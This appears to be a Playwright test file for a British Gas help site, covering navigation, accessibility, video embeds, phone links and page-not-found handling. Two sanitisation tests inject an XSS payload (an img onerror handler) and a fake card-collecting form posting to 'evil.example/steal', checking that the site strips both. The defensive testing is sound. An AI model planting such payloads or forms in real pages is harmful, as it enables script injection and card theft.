import type { Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import {
  AREA,
  BASE_URL,
  expect,
  expectNoAxeViolations,
  imageErrors,
  test,
} from './support/browser';
import { whenLive } from './support/islands';
import { BASENAME } from '../../src/config/paths';
import { CONTENT_PATHS } from '../../src/config/content-paths';

const contact = JSON.parse(readFileSync('content/contact.json', 'utf8')) as {
  phoneLines: { name: string; number: string }[];
};

/** How far the page scrolls sideways: nothing on it may be wider than the screen. */
const sidewaysScroll = (page: Page) =>
  page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);

test.describe('help content', () => {
  test('walks from the landing page through a tile and a category to an article', async ({
    newPage,
  }) => {
    const page = await newPage();
    await page.goto(`${AREA}/`);
    await whenLive(page); // prerendered: act once it is live
    await expect(page.getByRole('heading', { level: 1, name: 'Help & Support' })).toBeVisible();
    await expect(page).toHaveTitle('Help & Support - British Gas');
    await expect(page.getByRole('main')).toContainText(/helping over 300,000 customers/, {
      useInnerText: true,
    });
    await expectNoAxeViolations(page);

    await page.getByRole('link', { name: /^Meters/ }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Meters' })).toBeVisible();
    await expect(page).toHaveURL(`${AREA}/meters`);
    await expect(page).toHaveTitle('Meters - Help & Support - British Gas');
    await expectNoAxeViolations(page);

    await page.getByRole('link', { name: 'Think your meter is faulty?' }).click();
    await expect(
      page.getByRole('heading', { level: 1, name: 'Think your meter is faulty?' }),
    ).toBeVisible();
    await expect(page).toHaveTitle('Think your meter is faulty? - Help & Support - British Gas');
    await expect(page.locator('meta[name="description"]')).toHaveAttribute('content', /meter/i);
    await expect(
      page.getByRole('navigation', { name: 'Related articles' }).getByRole('listitem'),
    ).toHaveCount(5);
    await expectNoAxeViolations(page);

    // The article is a reading page too (decision 026): its links load the next page, which the
    // browser announces and starts at its top, as any page load.
    const related = page.getByRole('navigation', { name: 'Related articles' }).getByRole('link');
    const next = (await related.first().innerText()).trim();
    const href = await related.first().getAttribute('href');
    await related.first().click();
    await expect(page).toHaveURL(`${BASE_URL}${href}`);
    await expect(page.getByRole('heading', { level: 1, name: next })).toBeVisible();
    await expect(page.locator('body')).toBeFocused();
    expect(page.problems).toEqual([]);
  });

  test('shows the landing page extras and asks nothing of the video host before a click', async ({
    newPage,
  }) => {
    const page = await newPage({ viewport: { width: 1280, height: 900 } });
    const foreign: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(BASE_URL)) foreign.push(r.url());
    });
    await page.route('https://www.youtube-nocookie.com/**', (route) =>
      route.fulfill({ body: '<p>video</p>', contentType: 'text/html' }),
    );
    await page.goto(`${AREA}/`);
    const videos = page.getByRole('button', { name: /^Play video:/ });
    await expect(videos.first()).toBeVisible();
    await expect(videos).toHaveCount(7);
    for (const name of [
      'Moving home',
      'Bereavement',
      'Struggling to pay',
      'Warm Home Discount',
      'Emergencies',
      'Contact us',
    ]) {
      await expect(
        page
          .getByRole('navigation', { name: 'More help' })
          .getByRole('link', { name, exact: true }),
        name,
      ).toHaveCount(1);
    }
    await expect(
      page.getByRole('heading', { name: 'Help from the British Gas Energy Trust' }),
    ).toBeVisible();
    await expect(page.getByRole('link', { name: /PeakSave/ })).toHaveAttribute(
      'href',
      'https://www.britishgas.co.uk/energy/peaksave.html',
    );
    expect(foreign, `requests to other sites before any click: ${foreign.join(', ')}`).toEqual([]);

    // The landing page is prerendered: the player needs the page to be live.
    await whenLive(page);
    await videos.first().click();
    await expect(
      page.frameLocator('iframe[title="How to read your meter"]').getByText('video'),
    ).toBeVisible();
    expect(foreign.length, 'the player was asked of the video host').toBeGreaterThan(0);
    expect(
      foreign.filter((u) => !u.startsWith('https://www.youtube-nocookie.com/')),
      'requests to other sites than the video host',
    ).toEqual([]);
  });

  test('keeps the video strip within a phone screen, captions clear of the pictures', async ({
    newPage,
  }) => {
    const page = await newPage({ viewport: { width: 390, height: 844 } });
    await page.goto(`${AREA}/`);
    await whenLive(page);
    await expect
      .poll(() => sidewaysScroll(page), { message: 'the landing page scrolls sideways' })
      .toBe(0);

    // Each caption sits below its thumbnail, never drawn over it.
    const overlapping = await page.locator('.video-card__play').evaluateAll((buttons) =>
      buttons
        .filter((b) => {
          const img = b.querySelector('img')!.getBoundingClientRect();
          const caption = b.querySelector('.video-card__caption')!.getBoundingClientRect();
          return !(
            caption.right <= img.left ||
            caption.left >= img.right ||
            caption.bottom <= img.top ||
            caption.top >= img.bottom
          );
        })
        .map((b) => b.textContent),
    );
    expect(overlapping).toEqual([]);

    // The strip shows that it scrolls: the second card shows at its edge.
    const strip = page.locator('.video-strip__list');
    const stripBox = (await strip.boundingBox())!;
    const second = (await page.locator('.video-card').nth(1).boundingBox())!;
    expect(second.x, 'part of the second card is in view').toBeLessThan(
      stripBox.x + stripBox.width,
    );
    expect(second.x + second.width, 'the second card is cut off').toBeGreaterThan(
      stripBox.x + stripBox.width,
    );

    // By keyboard: the last video scrolls into view when it takes focus, and the page still
    // does not scroll sideways.
    const last = page.getByRole('button', { name: 'Play video: Bleeding a radiator' });
    await last.focus();
    await expect(last).toBeFocused();
    const lastBox = (await last.boundingBox())!;
    expect(
      lastBox.x >= 0 && lastBox.x + lastBox.width <= 390,
      `the focused card is in view (x=${lastBox.x}, width ${lastBox.width})`,
    ).toBe(true);
    await expect.poll(() => sidewaysScroll(page), { message: 'the page scrolls sideways' }).toBe(0);
    await expectNoAxeViolations(page);
  });

  test('puts focus on the player after Play, and back on Play when it is closed', async ({
    newPage,
  }) => {
    const page = await newPage({ viewport: { width: 390, height: 844 } });
    await page.route('https://www.youtube-nocookie.com/**', (route) =>
      route.fulfill({ body: '<p>video</p>', contentType: 'text/html' }),
    );
    await page.goto(`${AREA}/`);
    await whenLive(page);
    await page.getByRole('button', { name: 'Play video: Understanding your bill' }).click();
    await expect(
      page.frameLocator('iframe[title="Understanding your bill"]').getByText('video'),
    ).toBeVisible();
    // The page's focus is on the player's frame. (Not `iframe:focus` nor toBeFocused: Chromium's
    // headless shell, which the tests drive, does not match :focus on a frame whose page it has
    // not focused.)
    await expect
      .poll(
        () =>
          page.evaluate(
            () =>
              document.activeElement?.matches('iframe[title="Understanding your bill"]') ?? false,
          ),
        { message: 'the player’s frame has focus' },
      )
      .toBe(true);
    await page.getByRole('button', { name: 'Close video: Understanding your bill' }).click();
    await expect(
      page.getByRole('button', { name: 'Play video: Understanding your bill' }),
    ).toBeFocused();
    await expect(page.locator('iframe')).toHaveCount(0);
    await expect.poll(() => sidewaysScroll(page), { message: 'the page scrolls sideways' }).toBe(0);
  });

  test('gives every way to contact us on a phone screen, numbers as tel: links', async ({
    newPage,
  }) => {
    const page = await newPage({ viewport: { width: 390, height: 844 } });
    await page.goto(`${AREA}/contact-us`);
    await expect(
      page.getByRole('heading', { level: 2, name: 'Other ways to contact us' }),
    ).toBeVisible();
    for (const line of contact.phoneLines) {
      const link = page.getByRole('main').getByRole('link', { name: line.number, exact: true });
      await expect(link).toHaveAttribute('href', `tel:${line.number.replace(/ /g, '')}`);
    }
    await expect(page.getByRole('heading', { name: 'Relay UK' })).toBeVisible();
    // No post card while the address is unset: never placeholders.
    await expect(page.getByRole('heading', { name: 'By post' })).toHaveCount(0);
    await expect
      .poll(() => sidewaysScroll(page), { message: 'Contact us scrolls sideways' })
      .toBe(0);
    await expectNoAxeViolations(page);
  });

  test('shows an outage notice, sanitised, when there is one', async ({ newPage }) => {
    const page = await newPage();
    await page.route(`**${CONTENT_PATHS.outage}`, (route) =>
      route.fulfill({
        json: {
          title: 'Our phone lines are busy',
          message: `<p>We are fixing a fault. <a href="${BASENAME}/contact-us">Other ways to contact us</a></p><img src=x onerror="document.body.dataset.pwned=1">`,
        },
      }),
    );
    await page.goto(`${AREA}/`);
    await expect(page.getByRole('heading', { name: 'Our phone lines are busy' })).toBeVisible();
    // Its title on the line kept for it; its message opened by the customer (no layout shift).
    await page.getByRole('button', { name: 'Our phone lines are busy' }).click();
    await expect(page.getByText('We are fixing a fault.')).toBeVisible();
    await expect(page.locator('body')).not.toHaveAttribute('data-pwned');
    await expectNoAxeViolations(page);
  });

  test('shows no outage banner when the notice is empty', async ({ newPage }) => {
    const page = await newPage();
    await page.goto(`${AREA}/`);
    await expect(page.getByRole('heading', { name: 'Help topics' })).toBeVisible();
    await whenLive(page);
    await expect(page.getByText('No service updates')).toBeVisible();
    await expect(page.locator('.outage-banner')).toHaveCount(0);
  });

  test('puts the emergency numbers first on a phone screen, as tel: links', async ({ newPage }) => {
    const page = await newPage({ viewport: { width: 360, height: 640 } });
    await page.goto(`${AREA}/emergencies`);
    for (const [name, href] of [
      ['0800 111 999', 'tel:0800111999'],
      ['105', 'tel:105'],
      ['0330 808 3880', 'tel:03308083880'],
    ] as const) {
      const link = page.getByRole('main').getByRole('link', { name, exact: true });
      await expect(link).toHaveAttribute('href', href);
      const box = await link.boundingBox();
      expect(box, `${name} is on the page`).not.toBeNull();
      expect(box!.y + box!.height, `${name} is visible without scrolling`).toBeLessThanOrEqual(640);
    }
    await expect(page).toHaveTitle('Emergencies - Help & Support - British Gas');
    await expect(page.getByRole('heading', { name: 'Electrical safety advice' })).toBeVisible();
    await expectNoAxeViolations(page);
  });

  test('shows bills-and-payments with its campaign, Energy Trust promotion and back-to-top link', async ({
    newPage,
  }) => {
    const page = await newPage();
    await page.goto(`${AREA}/bills-and-payments`);
    await expect(page.getByRole('heading', { name: 'Common questions' })).toBeVisible();
    await expect(
      page.getByRole('heading', { name: 'Worried about energy bills? Three things that help' }),
    ).toBeVisible();
    await expect(
      page.getByRole('heading', { name: 'Help from the British Gas Energy Trust' }),
    ).toBeVisible();
    await expect(page.getByRole('link', { name: 'Back to top' })).toBeVisible();
    await expectNoAxeViolations(page);
  });

  test('sends an unknown category to page-not-found', async ({ newPage }) => {
    const page = await newPage();
    await page.goto(`${AREA}/gardening`);
    // The outcome, not the first navigation: one cut off is made again (redirect-to-not-found.tsx).
    await expect(page.getByRole('heading', { level: 1, name: 'Page not found' })).toBeVisible();
    await expect(page).toHaveURL(`${BASE_URL}/page-not-found.html`);
  });

  test('sends an unknown article to page-not-found', async ({ newPage }) => {
    const page = await newPage();
    await page.goto(`${AREA}/meters/how-to-fly`);
    await expect(page).toHaveURL(`${BASE_URL}/page-not-found.html`);
  });

  test('renders a hostile article without its handler or its form', async ({ newPage }) => {
    const page = await newPage();
    await page.route('**/aem6/content/britishgas/help/meters/faulty-meter.html', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body:
          '<html><head><title>Hostile</title></head><body><article><h1>Hostile</h1>' +
          '<img src=x onerror="document.body.dataset.pwned=1"><form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>' +
          '</article></body></html>',
      }),
    );
    const images = await imageErrors(page);
    await page.goto(`${AREA}/meters/faulty-meter`);
    await expect(page.getByRole('heading', { level: 1, name: 'Hostile' })).toBeVisible();
    // The image has failed: its handler, had it been kept, has run.
    await images.failed();
    await expect(page.locator('body')).not.toHaveAttribute('data-pwned');
    await expect(
      page.locator('.article-body form, .article-body input, .article-body button'),
    ).toHaveCount(0);
    await expect(page.locator('.article-body img[onerror]')).toHaveCount(0);
  });

  test('marks the article about leaving us nosnippet', async ({ newPage }) => {
    const page = await newPage();
    await page.goto(`${AREA}/my-account/leaving-us`);
    await expect(
      page.getByRole('heading', { level: 1, name: 'Switching your energy away from us' }),
    ).toBeVisible();
    await expect(page.locator('meta[name="robots"]')).toHaveAttribute('content', 'nosnippet');
    // As built, the site's own address; once alive, the address in the bar (SPEC §2).
    await expect(page.locator('link[rel="canonical"]').first()).toHaveJSProperty(
      'href',
      `${AREA}/my-account/leaving-us`,
    );
    await expect(page.locator('link[rel="canonical"]')).toHaveCount(1);
  });
});
